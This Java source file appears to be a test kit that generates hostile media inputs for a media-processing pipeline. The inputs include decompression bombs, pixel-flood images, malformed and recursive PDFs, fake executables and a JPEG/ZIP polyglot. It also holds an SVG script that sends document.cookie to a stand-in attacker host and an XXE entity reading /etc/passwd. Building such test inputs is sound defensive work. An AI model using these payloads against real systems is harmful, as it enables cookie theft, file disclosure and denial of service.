package dev.mediapipeline.testkit.media;

import javax.imageio.IIOImage;
import javax.imageio.ImageIO;
import javax.imageio.ImageTypeSpecifier;
import javax.imageio.ImageWriteParam;
import javax.imageio.ImageWriter;
import javax.imageio.metadata.IIOMetadata;
import javax.imageio.metadata.IIOMetadataNode;
import javax.imageio.stream.ImageOutputStream;
import javax.imageio.stream.MemoryCacheImageOutputStream;
import java.awt.color.ColorSpace;
import java.awt.color.ICC_Profile;
import java.awt.image.BufferedImage;
import java.awt.image.DataBufferByte;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/**
 * The media rows of {@code shared/bad-inputs.md} as bytes, generated here so that no hostile sample is ever
 * downloaded. Each method names its row. Each call returns fresh bytes.
 */
public final class BadInputs {

    private BadInputs() {
    }

    /** Row 1: a zero-byte file. */
    public static byte[] empty() {
        return new byte[0];
    }

    /** Row 2: a valid 800×600 JPEG cut after its first half, in the middle of the entropy-coded data. */
    public static byte[] truncatedJpeg() {
        byte[] jpeg = TestImages.quadrantsJpeg(800, 600);
        return Arrays.copyOf(jpeg, jpeg.length / 2);
    }

    /** Row 3: a pixel flood: a 100 000×100 000 RGB PNG header (10^10 pixels) over a few bytes of image data. */
    public static byte[] pixelFloodPng() {
        return tinyPngClaiming(100_000, 100_000);
    }

    /** Row 4: a 65 536×65 536 PNG header, whose pixel count overflows an int (and whose byte count, a long of 2^34). */
    public static byte[] dimensionOverflowPng() {
        return tinyPngClaiming(65_536, 65_536);
    }

    /**
     * Row 5: a zlib bomb: an 8-bit greyscale PNG of the given size whose image data is deflated zeros, so that
     * some 100 KB unpack to width × height bytes. Choose the size at the pixel limit under test.
     */
    public static byte[] zlibBombPng(int width, int height) {
        ByteArrayOutputStream compressed = new ByteArrayOutputStream();
        Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION);
        try (DeflaterOutputStream out = new DeflaterOutputStream(compressed, deflater, 64 * 1024)) {
            byte[] row = new byte[1 + width];
            for (int y = 0; y < height; y++) {
                out.write(row);
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        } finally {
            deflater.end();
        }
        return PngChunks.withHeader(width, height, PngChunks.GREY).chunk("IDAT", compressed.toByteArray()).end();
    }

    /**
     * Row 6: huge metadata: a 640×480 quadrants JPEG carrying {@code app1Segments} APP1 segments of 64 KB each (XMP
     * by their header, filler inside) and an ICC profile of {@code iccProfileBytes} spread over APP2 segments.
     * 100 segments make a file of about 6.5 MB.
     */
    public static byte[] hugeMetadataJpeg(int app1Segments, int iccProfileBytes) {
        List<byte[]> segments = new ArrayList<>();
        byte[] xmp = Arrays.copyOf("http://ns.adobe.com/xap/1.0/\0".getBytes(StandardCharsets.US_ASCII), JpegSegments.MAX_PAYLOAD);
        Arrays.fill(xmp, 29, xmp.length, (byte) ' ');
        for (int i = 0; i < app1Segments; i++) {
            segments.add(JpegSegments.segment(JpegSegments.APP1, xmp));
        }
        segments.addAll(JpegSegments.iccSegments(paddedSrgbProfile(iccProfileBytes)));
        return JpegSegments.insertAfterHeader(TestImages.quadrantsJpeg(640, 480), segments.toArray(byte[][]::new));
    }

    /** Row 7: a CMYK JPEG as Photoshop writes them; see {@link TestImages#cmykJpeg}. */
    public static byte[] cmykJpeg() {
        return TestImages.cmykJpeg(400, 300);
    }

    /**
     * Row 11: a scan flood: a progressive JPEG of a flat grey image whose last scan (a few bytes) is repeated
     * {@code extraScans} times. Every scan is a pass over the whole image: on a 2048×2048 image 5000 extra scans make a
     * file of about 100 KB that takes the JDK's decoder about a minute. Decoders warn about the repeated progression.
     */
    public static byte[] scanFloodJpeg(int width, int height, int extraScans) {
        BufferedImage flat = new BufferedImage(width, height, BufferedImage.TYPE_3BYTE_BGR);
        Arrays.fill(((DataBufferByte) flat.getRaster().getDataBuffer()).getData(), (byte) 0x80);
        ImageWriter writer = ImageIO.getImageWritersByFormatName("jpeg").next();
        ImageWriteParam param = writer.getDefaultWriteParam();
        param.setProgressiveMode(ImageWriteParam.MODE_DEFAULT);
        byte[] jpeg = TestImages.write(writer, new IIOImage(flat, null, null), param);
        int lastScan = -1;
        for (int i = 0; i + 1 < jpeg.length; i++) {
            if ((jpeg[i] & 0xFF) == 0xFF && (jpeg[i + 1] & 0xFF) == 0xDA) {
                lastScan = i;
            }
        }
        int endOfImage = jpeg.length - 2;
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write(jpeg, 0, endOfImage);
        for (int i = 0; i < extraScans; i++) {
            out.write(jpeg, lastScan, endOfImage - lastScan);
        }
        out.write(jpeg, endOfImage, 2);
        return out.toByteArray();
    }

    /** Row 10: an animated GIF of {@code frames} 1×1 frames (the row uses 5000). */
    public static byte[] animatedGif(int frames) {
        ImageWriter writer = ImageIO.getImageWritersByFormatName("gif").next();
        BufferedImage frame = new BufferedImage(1, 1, BufferedImage.TYPE_BYTE_INDEXED);
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ImageOutputStream out = new MemoryCacheImageOutputStream(bytes)) {
            writer.setOutput(out);
            IIOMetadata metadata = writer.getDefaultImageMetadata(ImageTypeSpecifier.createFromRenderedImage(frame), null);
            IIOMetadataNode root = (IIOMetadataNode) metadata.getAsTree(metadata.getNativeMetadataFormatName());
            IIOMetadataNode control = new IIOMetadataNode("GraphicControlExtension");
            control.setAttribute("disposalMethod", "none");
            control.setAttribute("userInputFlag", "FALSE");
            control.setAttribute("transparentColorFlag", "FALSE");
            control.setAttribute("delayTime", "1");
            control.setAttribute("transparentColorIndex", "0");
            root.appendChild(control);
            metadata.setFromTree(metadata.getNativeMetadataFormatName(), root);
            writer.prepareWriteSequence(null);
            for (int i = 0; i < frames; i++) {
                frame.getRaster().setSample(0, 0, 0, i % 2);
                writer.writeToSequence(new IIOImage(frame, null, metadata), null);
            }
            writer.endWriteSequence();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        } finally {
            writer.dispose();
        }
        return bytes.toByteArray();
    }

    /** Row 18: 1 KB that start like a Windows executable ({@code MZ}), as if uploaded as {@code photo.jpg}. */
    public static byte[] windowsExecutable() {
        byte[] bytes = new byte[1024];
        ByteBuffer.wrap(bytes).put((byte) 'M').put((byte) 'Z').put((byte) 0x90).put((byte) 0)
                .put(0x3C, (byte) 0x80)
                .put(0x4E, "This program cannot be run in DOS mode.\r\r\n$".getBytes(StandardCharsets.US_ASCII))
                .put(0x80, "PE\0\0".getBytes(StandardCharsets.US_ASCII));
        return bytes;
    }

    /** Row 18: 1 KB that start like a 64-bit Linux executable ({@code \x7fELF}), as if uploaded as {@code photo.jpg}. */
    public static byte[] linuxExecutable() {
        byte[] bytes = new byte[1024];
        ByteBuffer.wrap(bytes).put(new byte[]{0x7F, 'E', 'L', 'F', 2, 1, 1, 0}).put(0x10, (byte) 2).put(0x12, (byte) 0x3E);
        return bytes;
    }

    /** Row 20: an SVG whose script runs when a browser opens it. */
    public static byte[] svgWithScript() {
        return ("<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"64\" height=\"64\" onload=\"alert(document.domain)\">\n"
                + "  <script>fetch('https://attacker.invalid/?c=' + document.cookie)</script>\n"
                + "  <rect width=\"64\" height=\"64\" fill=\"red\"/>\n"
                + "</svg>\n").getBytes(StandardCharsets.UTF_8);
    }

    /** Row 20: an SVG with an external entity that a careless XML parser resolves (XXE). */
    public static byte[] svgWithExternalEntity() {
        return ("<?xml version=\"1.0\"?>\n"
                + "<!DOCTYPE svg [<!ENTITY secret SYSTEM \"file:///etc/passwd\">]>\n"
                + "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"64\" height=\"64\"><text y=\"20\">&secret;</text></svg>\n")
                .getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] tinyPngClaiming(int width, int height) {
        ByteArrayOutputStream compressed = new ByteArrayOutputStream();
        try (DeflaterOutputStream out = new DeflaterOutputStream(compressed)) {
            out.write(new byte[]{0, (byte) 0xFF, 0, 0});
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return PngChunks.withHeader(width, height, PngChunks.RGB).chunk("IDAT", compressed.toByteArray()).end();
    }

    /** The sRGB profile grown to the given size with zeros after its tags, a shape colour-management code accepts. */
    private static byte[] paddedSrgbProfile(int size) {
        byte[] srgb = ICC_Profile.getInstance(ColorSpace.CS_sRGB).getData();
        byte[] padded = Arrays.copyOf(srgb, Math.max(size, srgb.length));
        ByteBuffer.wrap(padded).putInt(0, padded.length);
        return padded;
    }

    /** Row 12: a PDF of {@code pages} pages (the row uses 10 000), page 1 marked as in {@link TestPdfs}. */
    public static byte[] manyPagesPdf(int pages) {
        return TestPdfs.manyPages(pages);
    }

    /** Row 13: the marked text page behind a user password (it cannot be opened without it). */
    public static byte[] userPasswordPdf() {
        return TestPdfs.encrypted("open sesame", "owner secret");
    }

    /** Row 13: the marked text page with an owner password only: anyone may open and render it. */
    public static byte[] ownerPasswordOnlyPdf() {
        return TestPdfs.encrypted("", "owner secret");
    }

    /** Row 14: the marked text page whose {@code startxref} points into the middle of nowhere. */
    public static byte[] brokenXrefPdf() {
        byte[] pdf = TestPdfs.textPage();
        String text = new String(pdf, StandardCharsets.ISO_8859_1);
        int keyword = text.lastIndexOf("startxref");
        int digitsStart = keyword + "startxref".length() + 1;
        int digitsEnd = text.indexOf('\n', digitsStart);
        String wrong = String.valueOf(Long.parseLong(text.substring(digitsStart, digitsEnd).trim()) / 3);
        String patched = text.substring(0, digitsStart) + wrong + text.substring(digitsEnd);
        return patched.getBytes(StandardCharsets.ISO_8859_1);
    }

    /** Row 15: a page of 14 400 × 14 400 points (200 inches square), the largest a PDF page may be, marked. */
    public static byte[] hugeMediaBoxPdf() {
        return TestPdfs.markedPage(14_400, 14_400);
    }

    /** Row 15: a 200 × 100 point page whose UserUnit of 75 makes it 208 × 104 inches. */
    public static byte[] hugeUserUnitPdf() {
        return TestPdfs.markedPageWithUserUnit(200, 100, 75);
    }

    /**
     * Row 16: a page drawing a 30 000 × 30 000 1-bit image (900 MP; 112 MB of bits, some 110 KB deflated). The
     * data is real: a reader that ignores the header and inflates it gets every byte.
     */
    public static byte[] hugeImagePdf() {
        int edge = 30_000;
        ByteArrayOutputStream compressed = new ByteArrayOutputStream();
        Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION);
        try (DeflaterOutputStream out = new DeflaterOutputStream(compressed, deflater, 64 * 1024)) {
            byte[] row = new byte[(edge + 7) / 8];
            for (int y = 0; y < edge; y++) {
                out.write(row);
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        } finally {
            deflater.end();
        }
        byte[] content = "q 500 0 0 500 50 50 cm /Im0 Do Q".getBytes(StandardCharsets.US_ASCII);
        return new PdfBytes()
                .object("<< /Type /Catalog /Pages 2 0 R >>")
                .object("<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
                .object("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 600] /Resources << /XObject << /Im0 5 0 R >> >> /Contents 4 0 R >>")
                .object(PdfBytes.stream("", content))
                .object(PdfBytes.stream("/Type /XObject /Subtype /Image /Width " + edge + " /Height " + edge
                        + " /BitsPerComponent 1 /ColorSpace /DeviceGray /Filter /FlateDecode", compressed.toByteArray()))
                .build();
    }

    /**
     * Row 17: page 1's content stream starts with an operand array nested {@code depth} levels deep (the row uses
     * 100 000), then draws a blue square.
     */
    public static byte[] deeplyNestedPdf(int depth) {
        String nested = "[".repeat(depth) + "]".repeat(depth);
        return new PdfBytes()
                .object("<< /Type /Catalog /Pages 2 0 R >>")
                .object("<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
                .object("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>")
                .object(PdfBytes.stream("", (nested + " pop 0 0 1 rg 10 10 100 100 re f").getBytes(StandardCharsets.US_ASCII)))
                .build();
    }

    /** Row 17: page 1 draws a form whose content draws the form itself, forever. */
    public static byte[] selfReferencingFormPdf() {
        return new PdfBytes()
                .object("<< /Type /Catalog /Pages 2 0 R >>")
                .object("<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
                .object("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Resources << /XObject << /Fm0 5 0 R >> >> /Contents 4 0 R >>")
                .object(PdfBytes.stream("", "/Fm0 Do".getBytes(StandardCharsets.US_ASCII)))
                .object(PdfBytes.stream("/Type /XObject /Subtype /Form /BBox [0 0 200 200] /Resources << /XObject << /Fm0 5 0 R >> >>",
                        "0 0 1 rg 10 10 50 50 re f /Fm0 Do".getBytes(StandardCharsets.US_ASCII)))
                .build();
    }

    /** Row 19: a polyglot: a valid 400×300 quadrants JPEG followed by a ZIP archive holding a script. */
    public static byte[] jpegZipPolyglot() {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(TestImages.quadrantsJpeg(400, 300));
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            zip.putNextEntry(new ZipEntry("payload.html"));
            zip.write("<script>alert(document.domain)</script>".getBytes(StandardCharsets.UTF_8));
            zip.closeEntry();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }
}
